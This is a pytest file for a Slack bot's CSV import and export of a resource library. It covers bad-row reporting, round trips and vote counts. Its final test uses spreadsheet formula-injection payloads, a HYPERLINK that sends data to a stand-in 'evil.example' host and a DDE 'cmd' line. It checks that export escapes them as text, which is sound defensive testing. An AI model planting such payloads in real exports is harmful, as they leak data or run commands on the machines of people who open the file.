"""`peerbot resources import|export`: a library moves in and out as CSV; bad rows are reported by line."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from sqlalchemy import select

from bot.cli import main
from rendering.resources.ids import ResourceAction
from storage import resources
from storage.db import SessionFactory
from storage.models import Network, Resource
from tests.scenarios.resources.library import (
    button_value,
    message_of,
    result_titles,
    stored,
)
from tests.scenarios.resources.library import search as search_in_slack
from tests.slackstub import SlackStub
from tests.support.clock import FakeClock
from tests.support.factories.resources import library_network, seed
from tests.support.harness import PeerbotUnderTest

ROWS = """title,link,description,states,topics,tags,kind,shared_by,created_at
Child care toolkit,https://example.org/toolkit,"Licensing steps,
over two lines",MS,Child care,licensing,toolkit,UMARIA,2025-12-01
Bad link,ftp://example.org/x,,,,,report,,
,https://example.org/untitled,,,,,report,,
Atlantis data,https://example.org/atlantis,,ZZ,,,data,,
Same toolkit,https://EXAMPLE.org/toolkit/?utm_source=mail,,,,,toolkit,,
Housing report,https://example.org/housing,Eviction data,"AL; MS",Housing,,report,,
"""


@pytest.fixture
def network(session_factory: SessionFactory, clock: FakeClock, slack: SlackStub) -> Network:
    return library_network(session_factory, clock)


@pytest.fixture
def cli_env(monkeypatch: pytest.MonkeyPatch, database_url: str, tmp_path: Path) -> Path:
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.chdir(tmp_path)  # no stray .env
    return tmp_path


def test_import_adds_good_rows_and_reports_bad_ones_by_line(
    cli_env: Path, network: Network, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    source = cli_env / "library.csv"
    source.write_text(ROWS, encoding="utf-8")
    assert main(["resources", "import", str(source), "--network", "CHOME"]) == 1
    out, err = capsys.readouterr()
    assert "imported 2 resources into Equity Learning; skipped 4" in out
    problems = [line for line in err.splitlines() if "skipped line" in line]
    assert [p.split(":")[1].strip() for p in problems] == [
        "skipped line 4",
        "skipped line 5",
        "skipped line 6",
        "skipped line 7",
    ]
    assert "http://" in problems[0] and "title" in problems[1] and "ZZ" in problems[2]
    assert "already in the library as “Child care toolkit”" in problems[3]
    titles = [r.title for r in stored(session_factory)]
    assert titles == ["Child care toolkit", "Housing report"]
    with session_factory.begin() as session:
        found = resources.search(session, network_id=network.id, terms=["eviction"], states=["AL"])
        assert [r.title for r in found] == ["Housing report"]
        housing = resources.search(session, network_id=network.id, topics=["housing"])
        assert [r.topic_names for r in housing] == [["Housing"]]  # a topic new to the list was added to it


def test_export_writes_every_entry_and_reimports_cleanly(
    cli_env: Path, network: Network, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    source, exported = cli_env / "in.csv", cli_env / "out.csv"
    source.write_text(ROWS, encoding="utf-8")
    main(["resources", "import", str(source), "--network", "CHOME"])
    assert main(["resources", "export", str(exported), "--network", "CHOME"]) == 0
    with exported.open(newline="", encoding="utf-8") as rows:
        exported_rows = list(csv.DictReader(rows))
    assert [(r["title"], r["states"], r["created_at"][:10]) for r in exported_rows] == [
        ("Child care toolkit", "MS", "2025-12-01"),
        ("Housing report", "AL; MS", exported_rows[1]["created_at"][:10]),
    ]
    assert exported_rows[0]["description"] == "Licensing steps,\nover two lines"


def test_an_unknown_network_is_refused(cli_env: Path, network: Network, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["resources", "export", str(cli_env / "x.csv"), "--network", "CNOPE"]) == 2
    assert "no single network" in capsys.readouterr().err


HELPFUL_ROWS = """title,link,kind,helpful
Well loved toolkit,https://example.org/loved,toolkit,12
Unrated report,https://example.org/unrated,report,
Shouted data,https://example.org/shouted,data,many
Negative policy,https://example.org/negative,policy,-1
"""


def test_import_carries_the_helpful_column_over_as_counts(
    cli_env: Path,
    network: Network,
    session_factory: SessionFactory,
    capsys: pytest.CaptureFixture[str],
    peerbot: PeerbotUnderTest,
) -> None:
    source = cli_env / "helpful.csv"
    source.write_text(HELPFUL_ROWS, encoding="utf-8")
    assert main(["resources", "import", str(source), "--network", "CHOME"]) == 1
    out, err = capsys.readouterr()
    assert "imported 2 resources" in out and "carried over 12 helpful votes" in out and "as counts" in out
    assert "skipped line 4: helpful should be a count" in err and "skipped line 5: helpful should be a count" in err
    assert [(r.title, r.helpful_votes) for r in stored(session_factory)] == [
        ("Well loved toolkit", 12),
        ("Unrated report", 0),
    ]
    # The count ranks and shows like votes; a member's own vote adds to it.
    results = search_in_slack(peerbot, "recent")
    assert result_titles(results) == ["Unrated report", "Well loved toolkit"]
    assert "12 people found it helpful" in json.dumps(results)
    peerbot.click(
        ResourceAction.HELPFUL,
        button_value(results, ResourceAction.HELPFUL, index=1),
        user="UDEV",
        channel="CHOME",
        message=message_of(results),
    )
    assert "13 people have found it helpful" in peerbot.last_response()["text"]

    exported = cli_env / "out.csv"
    assert main(["resources", "export", str(exported), "--network", "CHOME"]) == 0
    with exported.open(newline="", encoding="utf-8") as rows:
        assert [(r["title"], r["helpful"]) for r in csv.DictReader(rows)] == [
            ("Well loved toolkit", "13"),
            ("Unrated report", "0"),
        ]


FORMULA_TITLES = ('=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-1+2")


def test_export_keeps_formula_looking_entries_as_text_and_reads_them_back_as_typed(
    cli_env: Path, network: Network, session_factory: SessionFactory, clock: FakeClock
) -> None:
    for n, title in enumerate(FORMULA_TITLES):
        seed(session_factory, network, clock, title=title, url=f"https://example.org/f{n}", description="=1+1")
    exported = cli_env / "library.csv"
    assert main(["resources", "export", str(exported), "--network", "CHOME"]) == 0
    with exported.open(newline="", encoding="utf-8") as rows:
        written = list(csv.DictReader(rows))
    # A spreadsheet shows a cell starting with ' as text: nothing here runs when an evaluator opens the file.
    assert sorted(r["title"] for r in written) == sorted("'" + t for t in FORMULA_TITLES)
    assert {r["description"] for r in written} == {"'=1+1"}

    with session_factory.begin() as session:
        for resource in session.scalars(select(Resource)):
            session.delete(resource)
    assert main(["resources", "import", str(exported), "--network", "CHOME"]) == 0
    assert sorted(r.title for r in stored(session_factory)) == sorted(FORMULA_TITLES)
